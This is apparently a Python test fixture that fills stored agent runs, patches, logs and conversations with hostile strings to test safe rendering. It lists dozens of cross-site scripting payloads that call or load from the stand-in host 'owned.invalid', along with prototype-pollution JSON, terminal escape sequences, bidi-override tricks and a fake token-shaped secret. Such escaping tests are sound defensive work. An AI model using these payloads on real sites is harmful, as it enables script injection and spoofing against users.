"""Texts that try to be more than text where they are shown, and a run that has them in all its fields."""

from __future__ import annotations

import json
from pathlib import Path

import msgspec

from understudy.preference.rollouts import rollout_pairs
from understudy.store import Store
from understudy.types import ErrorInfo, Evidence, Finding, Integrity, Verdict

from support import calc_task
from support.export import converse, put_sessions, session, wait
from support.report import put_loop, solved
from support.trajectory import Session, assistant, text, tool_result, tool_use, user

MARK = "owned"
"""What a payload that runs puts into the document's title, and asks another host for."""

_RUNS = f"document.title='{MARK}';alert('{MARK}');fetch('//{MARK}.invalid')"
_MARKUP = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<ScRiPt src=//owned.invalid/x.js></ScRiPt>",
    '"><img src=x onerror="{run}">',
    "<img src=//owned.invalid/pixel.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=//owned.invalid/></object>",
    "<embed src=//owned.invalid/>",
    "<link rel=stylesheet href=//owned.invalid/x.css>",
    "<style>*{{display:none}}@import '//owned.invalid/x.css';</style>",
    "<style>body{{background:url(//owned.invalid/x)}}</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>{run}</div>",
    "<meta http-equiv=refresh content='0;url=//owned.invalid'>",
    "<base href=//owned.invalid/>",
    "<form action=//owned.invalid><button>send</button></form>",
    "<a href='javascript:{run}'>click</a>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<marquee onstart={run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "]]><img src=x onerror={run}>",
    "</title></textarea></style></pre><h1>{run}</h1>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "[link](javascript:{run})",
    "![image](//owned.invalid/x.png)",
    "${{{run}}} {{{{{run}}}}} <%= {run} %>",
    '{{"__proto__": {{"title": "owned"}}, "constructor": {{"prototype": 1}}}}',
    "__proto__",
    "constructor",
)
_CHARACTERS = (
    "\u202egnp.exe\u202c pay \u2066x\u2069",
    "\u200b\u200c\u200d\ufeff\u2060hidden",
    "\u2028line\u2029paragraph",
    "\U000e0041\U000e0042 tags",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]8;;http://owned.invalid\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x1b[H",
    "\x00\x01\x07\x08\x7f\x9b31m",
    "a\rb\r\nc\x0bd\x0ce",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349" * 30,
    "\ufdfd" * 40,
    "\u05d0\u05d1\u05d2 " * 40,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 " * 40,
    "x" * 20_000,
    "\t" * 2_000,
    "\n" * 2_000,
    "a " * 10_000,
    "@@ -1,9 +1,9 @@\n-<script>\n+</script>",
    "--- a/<img src=x onerror=1>\n+++ b/\u202e\n@@ -1 +1 @@\n-a\n+b\n",
)
PAYLOADS: tuple[str, ...] = (*(markup.format(run=_RUNS) for markup in _MARKUP), *_CHARACTERS)

LONG_LINE_BYTES = 10_000_000


def put_hostile_run(directory: Path) -> Path:
    """A run whose names, messages, calls, results, patches, tests, reasons and errors are all payloads."""
    with Store.open(directory) as store:
        tasks = [
            msgspec.structs.replace(
                calc_task(number), instance_id=f"{number:02d} {payload[:200]}", repo=payload[:200]
            )
            for number, payload in enumerate(PAYLOADS)
        ]
        wait(store.runs.create("run1", {"agent": PAYLOADS[0], "model": PAYLOADS[3]}))
        wait(store.runs.add_tasks("run1", tasks))
        ids = [(f"hostile-{number:02d}", task.instance_id, 0) for number, task in enumerate(tasks)]
        wait(store.runs.create_rollouts("run1", ids))
        for number, (rollout_id, _, _) in enumerate(ids):
            payload = PAYLOADS[number]
            attempt = wait(store.runs.start_attempt(rollout_id))
            wait(store.runs.mark_running(attempt.id))
            for call in _conversation(attempt.id, payload).calls:
                wait(store.calls.append(call))
            if number % 7 == 6:
                error = ErrorInfo("agent", payload[:80], payload)
                wait(store.runs.finish_attempt(attempt.id, "failed", "failed", error=error))
            else:
                wait(_graded(store, attempt.id, payload, solved=number % 2 == 0))
    return directory


PLACED = f'\u202e"><img src=x onerror="{_RUNS}"><script>{_RUNS}</script>'
"""A payload for places that a run's messages do not reach."""


def put_hostile_places(root: Path) -> None:
    """Stores with a payload where `put_hostile_run` has none.

    In names of directories, files of a patch, logs, voters, labels and clients, in a model's version and settings,
    in projects, agents and messages of logged conversations beside a secret, and in a loop's reasons.
    """
    run = root / PLACED.replace("/", "|")
    with Store.open(run) as store:
        wait(store.runs.create("run1", {"agent": PLACED, "weights": PLACED, "purpose": PLACED}))
        wait(store.runs.add_tasks("run1", [calc_task()]))
        wait(store.runs.create_rollouts("run1", [("placed", "calc-0", 0), (PLACED, "calc-0", 1)]))
        for rollout, answer_text in (("placed", PLACED), (PLACED, "I give up.")):
            attempt = wait(store.runs.start_attempt(rollout))
            wait(store.runs.mark_running(attempt.id))
            for call in converse(attempt.id, PLACED, answer_text=answer_text).calls:
                wait(store.calls.append(call))
            patch = f"--- a/{PLACED}\n+++ b/{PLACED}\n@@ -1 +1 @@ {PLACED}\n-a\n+b\n".encode()
            verdict = Verdict(reward=float(rollout == "placed"), reason=PLACED, reused_from=PLACED)
            finished = store.runs.finish_attempt(
                attempt.id,
                "succeeded",
                "succeeded",
                patch=patch,
                verdict=verdict,
                logs={PLACED: PLACED.encode()},
                timings={PLACED: 1.0},
            )
            wait(finished)
            wait(store.votes.put("rollout", rollout, PLACED, PLACED, PLACED))
        wait(store.votes.put("pair", next(rollout_pairs(store)).pair_id, PLACED, PLACED, PLACED))
    secret = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"[:36]
    trace = session(PLACED, project=PLACED, agent=PLACED, version=PLACED)
    trace.nodes[0].body["content"] = f"{PLACED} {secret} {PLACED}"
    put_sessions(root / "placed-sessions", [trace])
    with Store.open(root / "placed-gateway") as store:
        wait(store.keys.add_client(PAYLOADS[3]))  # a client's name must be printable
    loop = put_loop(root / "placed-loop", [solved({"a": (1, 2)})], [solved({"a": (1, 2)})])
    state = json.loads((loop / "state.json").read_bytes())
    state["refused"] = {PLACED: PLACED}
    state["steps"][0] |= {"skipped": {PLACED: 1}, "report": {PLACED: 1.0}, "sampled_by": PLACED, "version": PLACED}
    (loop / "state.json").write_bytes(json.dumps(state).encode())


def put_long_line(directory: Path) -> Path:
    """A run of one rollout in which a tool's result is a single line of 10 MB."""
    with Store.open(directory) as store:
        wait(store.runs.create("run1", {}))
        wait(store.runs.add_tasks("run1", [calc_task()]))
        wait(store.runs.create_rollouts("run1", [("long", "calc-0", 0)]))
        attempt = wait(store.runs.start_attempt("long"))
        wait(store.runs.mark_running(attempt.id))
        for call in _conversation(attempt.id, "x" * LONG_LINE_BYTES).calls:
            wait(store.calls.append(call))
        wait(_graded(store, attempt.id, "long", solved=True))
    return directory


def _graded(store: Store, attempt_id: str, payload: str, *, solved: bool):
    evidence = Evidence(rule="sys-exit", path=payload[:300], line=3, text=payload)
    verdict = Verdict(
        reward=float(solved),
        reason=payload[:1_000],
        tests={payload[:300]: "passed" if solved else "failed"},
        log=payload,
        integrity=Integrity("suspicious", payload[:300], (evidence,)),
        commands=(payload[:300],),
    )
    patch = f"--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-a\n+{payload}\n".encode()
    return store.runs.finish_attempt(
        attempt_id,
        "succeeded",
        "succeeded",
        patch=patch,
        verdict=verdict,
        findings=(Finding(kind="budget", message=payload[:300]),),
    )


def _conversation(attempt_id: str, payload: str) -> Session:
    session = Session(attempt_id)
    first = user(text(payload))
    # A name of a tool is short in every dialect; the payload is the arguments and the result as well.
    use = tool_use("t1", name=payload[:60].strip() or "Bash", command=payload)
    edit = tool_use("t2", name="Edit", file_path=payload[:200], old_string="a", new_string=payload)
    thinking = {"type": "thinking", "thinking": payload}
    session.ask([first], [thinking, text(payload), use, edit], policy=payload[:60], system=payload)
    results = user(tool_result("t1", payload), tool_result("t2", payload))
    session.ask([first, assistant(text(payload), use, edit), results], [text(payload)])
    return session
